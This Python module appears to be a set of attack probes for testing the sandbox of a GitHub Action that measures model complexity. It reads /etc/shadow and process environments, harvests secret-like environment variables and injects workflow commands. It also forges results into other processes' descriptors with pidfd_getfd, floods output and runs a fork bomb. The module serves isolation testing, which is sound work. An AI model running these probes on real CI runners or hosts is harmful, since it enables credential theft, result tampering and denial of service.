"""Attacks from inside the worker. Everything they learn is printed, so that tests can find it in log and comment."""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

import torch
from mmengine.registry import MODELS
from torch import nn

from model_complexity.common.metrics import METRICS

SECRETS = ("GITHUB_", "INPUT_", "ACTIONS_", "RUNNER_", "AWS_")
COMMANDS = "/github/file_commands"
LINGERER = "the-lingering-process"
TREE = Path(__file__).parent
FORGED = 31_337


def spy(stage: str) -> str:
    """Try everything that must be refused, print each outcome, and return what was learned."""
    learned = []
    for name, attempt in _attempts():
        try:
            outcome = f"done {attempt()!r}"[:900]
            learned.append(outcome)
        except OSError as error:
            outcome = type(error).__name__
        print(f"PROBE {stage}: {name}: {outcome}", flush=True)
    variables = {name: value for name, value in os.environ.items() if name.startswith(SECRETS) or "@" in value}
    print(f"PROBE {stage}: variables: {variables}", flush=True)
    return " ".join([*learned, *variables.values()])


def _attempts() -> Iterator[tuple[str, Callable[[], object]]]:
    reads: list[str | Path] = [
        "/github/workspace/.git/config",
        "/github/workflow/event.json",
        f"{COMMANDS}/set_output_1",
        "/proc/1/environ",
        "/proc/1/root/github/workspace/.git/config",
        "/etc/shadow",
        TREE.parent / "git" / "repository.git" / "objects" / "info" / "alternates",
    ]
    writes: list[str | Path] = [
        *(f"{COMMANDS}/{stem}_1" for stem in ("set_output", "set_env", "add_path", "step_summary", "save_state")),
        "/opt/model-complexity/model_complexity/cli.py",
        "/opt/host/pyvenv.cfg",
        TREE.parent / "base" / "configs" / "z_honest.py",
        TREE / "configs" / "z_honest.py",
        TREE.parent / "worker" / "request.jsonl",
        TREE.parent / "worker" / "code" / "model_complexity" / "worker" / "count" / "analysis.py",
        "/etc/passwd",
    ]
    folders: list[str | Path] = ["/github", "/proc/1/fd", TREE.parent]
    for word, action, paths in (
        ("read", Path.read_text, reads),
        ("write", _append, writes),
        ("list", _listed, folders),
    ):
        for path in map(Path, paths):
            yield f"{word} {str(path).replace(str(TREE.parent), 'WORKDIR')}", partial(action, path)
    yield "replace the base tree", lambda: (TREE.parent / "base").rename(TREE.parent / "gone")
    yield "signal the parent's parent", lambda: os.kill(1, signal.SIGKILL)
    worker = os.getppid()
    yield "list the worker's descriptors", partial(_listed, Path(f"/proc/{worker}/fd"))
    yield "read the worker's environment", Path(f"/proc/{worker}/environ").read_text
    yield "write the worker's memory", lambda: os.open(f"/proc/{worker}/mem", os.O_RDWR)


def _listed(path: Path) -> list[str]:
    return sorted(entry.name for entry in path.iterdir())


def _append(path: Path) -> None:
    with path.open("a") as file:
        file.write("\nhijacked=1\n")


def shout() -> None:
    """Prints all that the runner might obey."""
    lines = [
        "::set-output name=configs::hijacked",
        "::add-mask::flops",
        "::error::forged",
        "  ::warning::forged",
        "##[error]forged",
        "some text ##[error]forged",
        "text\r::notice::forged",
        "\x1b[31m::error::forged",
        "\u2028::error::forged",
        "::endgroup::",
        "::stop-commands::mine",
    ]
    for descriptor in (1, 2):
        os.write(descriptor, ("\n".join(lines) + "\nthe end of it").encode())


def forge() -> None:
    """Writes a measurement for its own job, the fifth, and all later ones into every descriptor in reach, the worker's too."""
    figures = dict.fromkeys(METRICS, FORGED)
    found: dict[str, Any] = {"figures": figures, "input_shape": [1, 3, 224, 224], "modules": []}
    found |= {"unsupported_ops": {}, "entry_point": "forward", "device": "cpu", "mode": "real", "seconds": 0}
    found |= {"versions": dict.fromkeys(("python", "torch", "fvcore", "mmengine"), "1")}
    lines = "".join(json.dumps({"job": job, "measurement": found}) + "\n" for job in range(4, 20)).encode()
    others = [int(path.name) for path in Path("/proc").iterdir() if path.name.isdigit()]
    for process, number in itertools.product(set(others) - {os.getpid()}, range(3, 16)):
        _pour(partial(os.open, f"/proc/{process}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK), lines)
        _pour(partial(_stolen, process, number), lines)
    for number in range(3, 64):
        _pour(partial(os.dup, number), lines)


def _stolen(process: int, number: int) -> int:
    """Another process's descriptor by pidfd_getfd, for which the right to trace it is enough."""
    descriptor: int = ctypes.CDLL(None, use_errno=True).syscall(438, os.pidfd_open(process), number, 0)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return descriptor


def _pour(opened: Callable[[], int], lines: bytes) -> None:
    try:
        descriptor = opened()
        os.write(descriptor, lines)
        os.close(descriptor)
    except OSError:
        return


def kill(victim: int) -> None:
    """Kills a process, or with -1 all of this user's but itself, and waits for what comes."""
    os.kill(victim, signal.SIGKILL)
    signal.pause()


def linger() -> None:
    """Leaves a process in a session of its own, with every descriptor of this one."""
    waits = "import signal; signal.pause()"
    subprocess.Popen([sys.executable, "-c", waits, LINGERER], start_new_session=True, close_fds=False)


def count_lingerers() -> int:
    """How many such processes are alive: a dead one has no command line."""
    return sum(LINGERER in _command_line(path) for path in Path("/proc").iterdir() if path.name.isdigit())


def _command_line(process: Path) -> str:
    try:
        return (process / "cmdline").read_text(errors="replace")
    except OSError:
        return ""


def flood() -> None:
    """Prints 20 MB."""
    for _ in range(200_000):
        os.write(1, b"x" * 99 + b"\n")


@MODELS.register_module()
class Spy(nn.Module):  # type: ignore[misc]  # torch is not installed where types are checked
    """Spies while it is built, and names a layer after what it learned."""

    def __init__(self) -> None:
        super().__init__()
        learned = re.sub(r"[^A-Za-z0-9=_@-]+", "_", spy("build"))
        self.add_module(f"learned_{learned}", nn.Conv2d(3, 8, 1, bias=False))

    def forward(self, image: torch.Tensor) -> Any:
        for layer in self.children():
            image = layer(image)
        return image


def bomb() -> None:
    """Makes as many processes as it may, each of which does the same, for ever."""
    while True:
        with contextlib.suppress(OSError):
            os.fork()
